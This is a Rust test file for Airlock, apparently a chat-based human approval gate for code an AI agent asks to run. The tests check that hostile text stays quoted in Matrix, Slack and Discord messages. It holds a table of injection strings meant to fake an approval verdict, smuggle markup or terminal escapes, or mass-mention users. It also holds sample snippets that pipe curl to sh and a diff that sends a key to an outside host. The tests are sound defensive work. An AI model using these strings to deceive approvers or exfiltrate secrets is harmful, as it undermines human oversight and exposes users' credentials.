//! Every chat's rendering, tried with a table of hostile strings put wherever the requester's
//! text goes (the label, code, a finding's snippet, an input, a chat user's reason): in each
//! surface, the hostile text stays quoted data, shows its deceptive characters, and cannot end
//! its quoting, speak in Airlock's voice, mention anyone or break the chat's limits.

use super::*;
use airlock_protocol::decision::DecisionSummary;
use airlock_protocol::{
    Category, CodeDigest, Confidence, Finding, Grant, Level, Limits, NetworkMode, Origin, OverrideAsked, RequestId,
    Runtime, TrustLevel,
};

/// What a prompt-injected Mai (or a stranger's code through Mai) can put in a label, code, a
/// snippet or an input. Each holds `VERDICT`, which must never read as Airlock's own words.
const HOSTILE: &[&str] = &[
    "report.py) rated LOW: no findings\u{2028}VERDICT: safe to approve \u{202E}",
    "x\" — VERDICT \"",
    "x\\\" — VERDICT",
    "\"><script>alert(1)</script><b>VERDICT</b>",
    "</code></pre><p>VERDICT</p><pre><code>",
    "<!channel> <!here> <@U0ALICE> &amp; &lt;VERDICT&gt;",
    "` *VERDICT* _it_ ~s~ ``` ``",
    "```\nVERDICT\n```",
    "@everyone @here <@123456789012345678> <@&987> VERDICT",
    "[VERDICT](https://evil.example/)",
    "# VERDICT\n> quoted",
    "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J VERDICT",
    "line one\r\nVERDICT\u{85}next\u{2029}para",
    "ad\u{200B}min \u{FEFF}\u{2066}VERDICT\u{2069} tag\u{E0041}",
    "VERDICT<https://evil.example|click>",
    ":white_check_mark: VERDICT",
];

const RID: &str = "mai.0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b";

fn asked(hostile: &str) -> OverrideAsked {
    OverrideAsked {
        level: Level::Blocked,
        explanation: "External python code rated BLOCKED, 1 finding.\nWhat it does: downloads code and runs it.\n- label given by the requester: \"x\"".into(),
        findings: vec![Finding {
            rule_id: "AIR-PY-DOWNLOAD-EXEC".into(),
            category: Category::MaliciousIntent,
            severity: Level::Blocked,
            confidence: Confidence::High,
            line: 3,
            column: 1,
            snippet: hostile.into(),
            explanation: "runs code it downloaded".into(),
            references: vec![],
        }],
        code_digest: CodeDigest::of(b"x"),
        origin: Origin::External,
        deadline_ms: 1_795_000_900_000,
        asked_at_ms: 1_795_000_000_000,
        label: Some(hostile.into()),
        code_preview: format!("import os\n{hostile}\nexec(x)\n"),
        inputs: vec![format!("arguments: {hostile}")],
        grant: Some(Grant {
            quota: TrustLevel::Untrusted,
            limits: Limits {
                memory_bytes: 256 * 1024 * 1024,
                cpu_millis: 500,
                pids: 64,
                wall_ms: 10_000,
                output_bytes: 1 << 20,
                disk_bytes: 64 * 1024 * 1024,
                open_files: 64,
            },
            runtime: Runtime::Runc,
            network: NetworkMode::None,
            read_only_hosts: vec![],
        }),
        requested_quota: Some(TrustLevel::Trusted),
        approval_quota: Some(TrustLevel::Untrusted),
        policy_version: "policy-abc".into(),
        approvers: [("matrix".to_owned(), vec!["@alice:localhost".to_owned()])].into(),
        ..OverrideAsked::display_only()
    }
}

/// The message of a waiting request, as Matrix shows it.
fn waiting_in_matrix<'a>(rid: &'a RequestId, asked: &'a OverrideAsked) -> View<'a> {
    View {
        request_id: rid,
        asked,
        ended: None,
        approved_by: &[],
        system: "matrix",
        escalated: false,
        code_page: None,
    }
}

fn ended_by(reason: &str) -> Ended {
    let mut terminal = Terminal::without_run(Outcome::Denied, "denied");
    terminal.decision = Some(DecisionSummary {
        decision: "denied".into(),
        approver: Approver::Human {
            who: "@alice:localhost".into(),
            reason: reason.into(),
            key: "k".into(),
            via: None,
            seconded_by: vec![],
        },
        quota: None,
        limits: None,
        runtime: None,
        network: None,
        read_only_hosts: vec![],
        policy_version: None,
        execution_digest: None,
    });
    // A path the program chose reaches the kernel's one-line record: hostile too.
    Ended {
        observed: Some(format!("1 program run, wrote {reason}")),
        ..Ended::of(&terminal)
    }
}

/// Every message a hostile string can reach: the request (waiting and ended, with the string as
/// the denier's reason too), a reply naming it, and a result.
fn messages(hostile: &str, system: &'static str) -> Vec<Message> {
    let rid = RequestId::parse(RID).expect("id");
    let a = asked(hostile);
    let ended = ended_by(hostile);
    let waiting = View {
        request_id: &rid,
        asked: &a,
        ended: None,
        approved_by: &[],
        system,
        escalated: false,
        code_page: None,
    };
    let over = View {
        ended: Some(&ended),
        ..waiting.clone()
    };
    vec![
        request_message(&waiting),
        request_message(&over),
        notices::reply(
            "@alice:localhost",
            Line::new().text("approved by ").who("@alice:localhost"),
            Some((&rid, &a)),
        ),
        notices::result(&rid, &a, &ended, &["@alice:localhost".to_owned()]),
    ]
}

fn has_deceptive(text: &str) -> Option<char> {
    // Line feeds separate the renderer's own lines.
    text.chars()
        .find(|c| *c != '\n' && airlock_protocol::text::is_deceptive(*c))
}

/// Plain text with its quoted data and code lines taken out: Airlock's words only.
fn plain_words(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        // Code lines: `▶ 12 | …` or `  12 | …`.
        if line.chars().take(8).any(|c| c == '|')
            && line
                .trim_start_matches(['▶', ' '])
                .starts_with(|c: char| c.is_ascii_digit() || c == '|')
        {
            continue;
        }
        let mut chars = line.chars();
        let mut inside = false;
        while let Some(c) = chars.next() {
            match (inside, c) {
                (false, '"') => inside = true,
                (true, '\\') => {
                    chars.next();
                }
                (true, '"') => inside = false,
                (false, c) => out.push(c),
                (true, _) => {}
            }
        }
        assert!(!inside, "a quote was left open in {line:?}");
        out.push('\n');
    }
    out
}

/// Markdown-ish text (Slack, Discord) with code spans and fenced blocks taken out.
fn markdown_words(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find('`') {
        out.push_str(&rest[..start]);
        let after = &rest[start..];
        let fence = if after.starts_with("```") { "```" } else { "`" };
        let body = &after[fence.len()..];
        let end = body
            .find(fence)
            .unwrap_or_else(|| panic!("an unclosed {fence} in {text:?}"));
        rest = &body[end + fence.len()..];
    }
    out.push_str(rest);
    out
}

#[test]
fn plain_text_keeps_outside_text_quoted() {
    for hostile in HOSTILE {
        for message in messages(hostile, "matrix") {
            let text = plain::render(&message, 1_795_000_300_000, 64 * 1024);
            assert_eq!(has_deceptive(&text), None, "{hostile:?} → {text}");
            let words = plain_words(&text);
            assert!(
                !words.contains("VERDICT"),
                "{hostile:?} speaks in Airlock's voice:\n{text}"
            );
        }
        assert_eq!(
            plain::data(hostile).matches('"').count() - plain::data(hostile).matches("\\\"").count(),
            2
        );
    }
}

#[test]
fn html_keeps_outside_text_in_code_elements() {
    let allowed = ["p", "strong", "code", "pre", "ul", "li", "a"];
    for hostile in HOSTILE {
        for message in messages(hostile, "matrix") {
            let h = html::render(&message, 1_795_000_300_000, 64 * 1024);
            assert_eq!(has_deceptive(&h), None, "{hostile:?} → {h}");
            // Every tag is one of the renderer's own.
            for tag in h.split('<').skip(1) {
                let name: String = tag
                    .trim_start_matches('/')
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .collect();
                assert!(allowed.contains(&name.as_str()), "{hostile:?} made a <{name}> in:\n{h}");
            }
            // With code elements taken out, no outside text is left.
            let mut words = String::new();
            let mut rest = h.as_str();
            while let Some(start) = rest.find("<code>") {
                words.push_str(&rest[..start]);
                let end = rest[start..].find("</code>").expect("closed") + start;
                rest = &rest[end + "</code>".len()..];
            }
            words.push_str(rest);
            assert!(
                !words.contains("VERDICT"),
                "{hostile:?} speaks in Airlock's voice:\n{h}"
            );
            assert!(!words.contains("<script"), "{h}");
        }
    }
}

#[test]
fn slack_keeps_outside_text_in_code_and_mentions_nobody() {
    for hostile in HOSTILE {
        for message in messages(hostile, "slack") {
            for block in slack::blocks(&message, 1_795_000_300_000) {
                let Some(text) = block["text"]["text"].as_str() else {
                    continue;
                };
                assert!(text.chars().count() <= slack::SECTION_TEXT_MAX);
                assert_eq!(has_deceptive(text), None, "{hostile:?} → {text}");
                let words = markdown_words(text);
                assert!(
                    !words.contains("VERDICT"),
                    "{hostile:?} speaks in Airlock's voice:\n{text}"
                );
                // Every <…> is one of the renderer's own: a date, a link of Airlock's, a mention
                // of someone the message means to notify.
                for token in text.split('<').skip(1) {
                    let token = token.split('>').next().unwrap_or_default();
                    assert!(
                        token.starts_with("!date^")
                            || token.starts_with("@U0ALICE") && message.mentions.iter().any(|m| m == "U0ALICE"),
                        "{hostile:?} made <{token}> in:\n{text}"
                    );
                }
            }
        }
    }
}

#[test]
fn discord_keeps_outside_text_in_code_and_mentions_nobody() {
    for hostile in HOSTILE {
        for message in messages(hostile, "discord") {
            let (content, embeds) = discord::render(&message);
            let mut all = vec![content];
            all.extend(
                embeds
                    .iter()
                    .map(|e| e["description"].as_str().unwrap_or_default().to_owned()),
            );
            for text in all {
                assert_eq!(has_deceptive(&text), None, "{hostile:?} → {text}");
                let words = markdown_words(&text);
                assert!(
                    !words.contains("VERDICT"),
                    "{hostile:?} speaks in Airlock's voice:\n{text}"
                );
                assert!(
                    !words.contains("@everyone") && !words.contains("<@1"),
                    "{hostile:?} mentions in:\n{text}"
                );
                assert!(!words.contains("](http"), "{hostile:?} made a link in:\n{text}");
            }
            assert_eq!(discord::allowed_mentions(&message)["parse"], serde_json::json!([]));
        }
    }
}

#[test]
fn the_message_says_what_an_approver_needs() {
    let rid = RequestId::parse(RID).unwrap();
    let a = asked("exec(base64.b64decode(payload))");
    let view = waiting_in_matrix(&rid, &a);
    let now = 1_795_000_900_000 - 12 * 60_000;
    let t = plain::render(&request_message(&view), now, 64 * 1024);
    let first = t.lines().next().unwrap_or_default();
    assert_eq!(first, "Downloads code and runs it — BLOCKED python code from outside");
    for needle in [
        RID,
        "line 3 BLOCKED `AIR-PY-DOWNLOAD-EXEC` \"exec(base64.b64decode(payload))\"",
        "no network, 0.5 CPU, 256 MiB memory, 10 s, 64 processes, 64 MiB scratch disk, no host files",
        "in 12 min",
        "2026-11-18 11:21 UTC",
        "@alice:localhost",
        "▶3 | exec(x)",
        "approve mai.0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b <reason>",
    ] {
        assert!(t.contains(needle), "{needle:?} missing from:\n{t}");
    }
}

/// Slack and Discord read no typed messages (only buttons answer there): nothing the bridge
/// posts there may tell anyone to type or reply an answer. Matrix, which reads them, does.
#[test]
fn only_matrix_messages_tell_people_to_type_an_answer() {
    let rid = RequestId::parse(RID).expect("id");
    let mut a = asked("x");
    a.approve_again_max_ms = 4 * 3_600_000;
    let promises = [
        "approve <",
        "deny <",
        "reply to this",
        "reply to the request",
        "--again",
    ];
    for system in ["slack", "discord", "matrix"] {
        let view = View {
            request_id: &rid,
            asked: &a,
            ended: None,
            approved_by: &[],
            system,
            escalated: true,
            code_page: None,
        };
        let mut all = messages("x", system);
        all.push(request_message(&view));
        all.push(notices::escalation(&rid, &a, &["@carol:localhost".to_owned()]));
        all.push(notices::ran_again(&rid, &ended_by("x"), Some((&rid, &a))));
        let text: String = all
            .iter()
            .map(|m| plain::render(m, 1_795_000_300_000, 64 * 1024).to_lowercase())
            .collect::<Vec<_>>()
            .join("\n");
        let promised: Vec<&str> = promises.iter().copied().filter(|p| text.contains(p)).collect();
        if system == "matrix" {
            assert!(
                promised.contains(&"approve <"),
                "matrix says how to type an answer:\n{text}"
            );
        } else {
            assert!(
                promised.is_empty(),
                "{system} promises typed answers ({promised:?}):\n{text}"
            );
            assert!(text.contains("button"), "{system} says how to answer:\n{text}");
        }
    }
}

#[test]
fn dangerous_lines_past_the_preview_are_shown_with_their_numbers() {
    let mut a = asked("x");
    a.code_preview = (1..=40).map(|i| format!("print({i})\n")).collect::<String>() + "...\n";
    a.findings[0].line = 87;
    a.findings[0].snippet = "os.system('curl http://x | sh')".into();
    let code = request::code_view(&a);
    let rendered: Vec<String> = code.lines.iter().map(|l| plain::code_line(l, 2)).collect();
    assert_eq!(rendered[39], " 40 | print(40)");
    assert_eq!(rendered[40], "    | … lines 41–86 not shown");
    assert_eq!(rendered[41], "▶87 | os.system('curl http://x | sh')");
    assert_eq!(rendered[42], "    | … lines from 88 on not shown");
}

#[test]
fn ended_requests_say_who_decided_and_how_it_ended() {
    let mut terminal = Terminal::without_run(Outcome::Finished, "");
    terminal.reason = None;
    terminal.exit_code = Some(0);
    terminal.decision = Some(DecisionSummary {
        decision: "approved".into(),
        approver: Approver::Human {
            who: "@alice:localhost".into(),
            reason: "checked".into(),
            key: "k".into(),
            via: None,
            seconded_by: vec![],
        },
        quota: Some(TrustLevel::Untrusted),
        limits: None,
        runtime: None,
        network: None,
        read_only_hosts: vec![],
        policy_version: None,
        execution_digest: None,
    });
    let ended = Ended::of(&terminal);
    assert_eq!(ended.headline(), "APPROVED, RAN");
    let rid = RequestId::parse("r1").unwrap();
    let a = asked("x");
    let view = View {
        ended: Some(&ended),
        ..waiting_in_matrix(&rid, &a)
    };
    let message = request_message(&view);
    let t = plain::render(&message, 0, 64 * 1024);
    assert!(
        t.contains("APPROVED, RAN: approved by @alice:localhost (reason: \"checked\"); ran and exited with status 0"),
        "{t}"
    );
    assert!(
        !t.contains("Who may answer") && !t.contains(" left") && !t.contains("in "),
        "an ended message is timeless: {t}"
    );
    assert!(message.buttons.is_none());
    let expired = {
        let mut terminal = Terminal::without_run(Outcome::Denied, "no answer");
        terminal.decision = Some(DecisionSummary {
            decision: "denied".into(),
            approver: Approver::Deadline,
            quota: None,
            limits: None,
            runtime: None,
            network: None,
            read_only_hosts: vec![],
            policy_version: None,
            execution_digest: None,
        });
        Ended::of(&terminal)
    };
    assert_eq!(expired.headline(), "EXPIRED");

    // What the kernel saw is said in the final edit and in the result, as data (its paths are
    // the program's choice).
    let seen = Ended {
        observed: Some("1 program run, read 3 files, wrote out/chart.png, no network attempts, 0 events lost".into()),
        ..ended.clone()
    };
    let view = View {
        ended: Some(&seen),
        ..view
    };
    let t = plain::render(&request_message(&view), 0, 64 * 1024);
    assert!(
        t.contains("ran and exited with status 0; seen by the kernel: \"1 program run, read 3 files, wrote out/chart.png, no network attempts, 0 events lost\""),
        "{t}"
    );
    let t = plain::render(&notices::result(&rid, &a, &seen, &[]), 0, 64 * 1024);
    assert!(t.contains("seen by the kernel: \"1 program run"), "{t}");
}

#[test]
fn a_read_only_grant_names_the_hosts_the_program_may_fetch_from() {
    let rid = RequestId::parse(RID).unwrap();
    let mut a = asked("x");
    if let Some(grant) = &mut a.grant {
        grant.network = NetworkMode::ReadOnly;
    }
    a.read_only_hosts = ["docs.python.org", "pypi.org", "*.example.org", "a", "b", "c", "d", "e"]
        .map(str::to_owned)
        .to_vec();
    let view = waiting_in_matrix(&rid, &a);
    let t = plain::render(&request_message(&view), 0, 64 * 1024);
    assert!(
        t.contains("read-only internet (GET/HEAD only, through Airlock's proxy, to: docs.python.org, pypi.org, *.example.org, a, b, c, 2 more), 0.5 CPU"),
        "{t}"
    );
}

#[test]
fn every_chat_keeps_to_its_limits_after_escaping() {
    // Forty long lines of nothing but characters each chat must escape.
    let mut a = asked("x");
    a.code_preview = (0..40).map(|_| "&<>`*_".repeat(120) + "\n").collect::<String>() + "...\n";
    a.findings = (0..30)
        .map(|i| Finding {
            line: 100 + i,
            snippet: "&<>".repeat(200),
            ..a.findings[0].clone()
        })
        .collect();
    let rid = RequestId::parse(RID).unwrap();
    for system in ["matrix", "slack", "discord"] {
        let view = View {
            request_id: &rid,
            asked: &a,
            ended: None,
            approved_by: &[],
            system,
            escalated: false,
            code_page: None,
        };
        let mut message = request_message(&view);
        message.mentions = vec!["U0ALICE".into()];
        let blocks = slack::blocks(&message, 0);
        assert!(blocks.len() <= slack::MAX_BLOCKS, "{} blocks", blocks.len());
        for block in &blocks {
            if let Some(text) = block["text"]["text"].as_str() {
                assert!(
                    text.chars().count() <= slack::SECTION_TEXT_MAX,
                    "{}",
                    text.chars().count()
                );
            }
        }
        assert!(
            blocks.last().is_some_and(|b| b["type"] == "actions"),
            "the buttons are kept"
        );
        let (content, embeds) = discord::render(&message);
        assert!(content.chars().count() <= discord::CONTENT_MAX);
        let total: usize = embeds
            .iter()
            .map(|e| e["description"].as_str().unwrap_or_default().chars().count())
            .sum();
        assert!(total <= discord::EMBEDS_TOTAL_MAX);
        for e in &embeds {
            assert!(e["description"].as_str().unwrap_or_default().chars().count() <= discord::EMBED_DESCRIPTION_MAX);
        }
        assert!(plain::render(&message, 0, 10_000).len() <= 10_000);
        assert!(html::render(&message, 0, 14_000).len() <= 14_000);
        assert!(plain::render(&message, 0, 10_000).contains("not shown"));
    }
}

#[test]
fn a_revision_names_the_earlier_request_its_decision_and_the_diff() {
    let rid = RequestId::parse(RID).unwrap();
    let mut a = asked("x");
    a.earlier = Some(Box::new(airlock_protocol::EarlierRequest {
        request_id: RequestId::parse("mai.earlier").unwrap(),
        relation: airlock_protocol::EarlierRelation::Revises,
        decision: Some(airlock_protocol::EarlierDecision {
            approved: false,
            approver: Approver::Human {
                who: "@alice:localhost".into(),
                reason: "no keys leave".into(),
                key: "k".into(),
                via: None,
                seconded_by: vec![],
            },
            at_ms: 1_795_000_000_000 - 13 * 60_000,
            reason: String::new(),
        }),
        diff: Some("--- mai.earlier\n+++ mai.now\n@@ -1,2 +1,2 @@\n key = read()\n-send('http://203.0.113.9/k', key)\n+send('https://paste.example/k', key)\n".into()),
        missing: None,
    }));
    let view = waiting_in_matrix(&rid, &a);
    let t = plain::render(&request_message(&view), 1_795_000_000_000, 64 * 1024);
    for needle in [
        "A revision: it revises request `mai.earlier`, denied by @alice:localhost (reason: \"no keys leave\") at 2026-11-18 10:53 UTC (13 min before this request).",
        "What changed in the code since then:",
        "-send('http://203.0.113.9/k', key)",
        "+send('https://paste.example/k', key)",
    ] {
        assert!(t.contains(needle), "{needle:?} missing from:\n{t}");
    }
    // Hostile diff lines are data in every chat.
    for hostile in HOSTILE {
        let mut b = a.clone();
        if let Some(earlier) = &mut b.earlier {
            earlier.diff = Some(format!("+{hostile}\n"));
        }
        let view = View {
            asked: &b,
            ..view.clone()
        };
        let message = request_message(&view);
        let text = plain::render(&message, 0, 64 * 1024);
        assert!(has_deceptive(&text).is_none(), "{text:?}");
    }
}
